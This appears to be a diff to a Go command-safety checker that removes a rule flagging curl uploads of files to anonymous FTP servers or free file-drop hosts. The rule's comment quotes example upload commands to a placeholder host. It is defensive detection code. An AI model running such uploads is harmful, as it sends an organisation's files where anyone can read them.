@@ -393,33 +393,6 @@ var moreSecretRules = []*rule{
 			}
 			return true, what + " → " + hostOf(u)
 		}},
-	{ID: "anonymous-ftp-upload", Level: LevelCritical, Category: CategoryExfiltration, Description: "uploading files to an FTP server anyone can log in to, or to a free file-drop host",
-		Suggestions: []string{"Share files through the organisation's own storage", "Ask before anything leaves the machine"},
-		names:       names("curl"),
-		match: func(a *analysis, c *cmd) (bool, string) {
-			// curl -T export.csv ftp://files.freehost.example/ --user
-			// anon:anon, ... | curl -T - ftp://anon:anon@host/: whatever
-			// is sent is anyone's to read
-			if !hasWord(c.args(), "-T") && !hasPrefixWord(c.args(), "--upload-file") {
-				return false, ""
-			}
-			u := lower(firstURL(c.args()))
-			if !strings.HasPrefix(u, "ftp://") && !strings.HasPrefix(u, "ftps://") || isLocalHost(hostOf(u)) {
-				return false, ""
-			}
-			user, _ := optValue(c.args(), "-u", "user")
-			if i := strings.Index(u, "://"); i >= 0 {
-				if at := strings.IndexByte(u[i+3:], '@'); at >= 0 {
-					user = u[i+3 : i+3+at]
-				}
-			}
-			user = lower(strings.Trim(user, `"'`))
-			h := hostOf(u)
-			if strings.HasPrefix(user, "anon") || strings.HasPrefix(user, "ftp:") || user == "ftp" || hasAny(h, "free", "quickshare", "drop", "transfer", "anon") {
-				return true, "an upload to " + h
-			}
-			return false, ""
-		}},
 	{ID: "key-passphrase-removed", Level: LevelHigh, Category: CategoryPermission, Description: "removing a private key's passphrase (anyone who copies the file can use it)",
 		Suggestions: []string{"Keep the passphrase; load the key into ssh-agent once", "Make a separate deploy key without a passphrase, scoped to one repository"},
 		names:       names("ssh-keygen"),
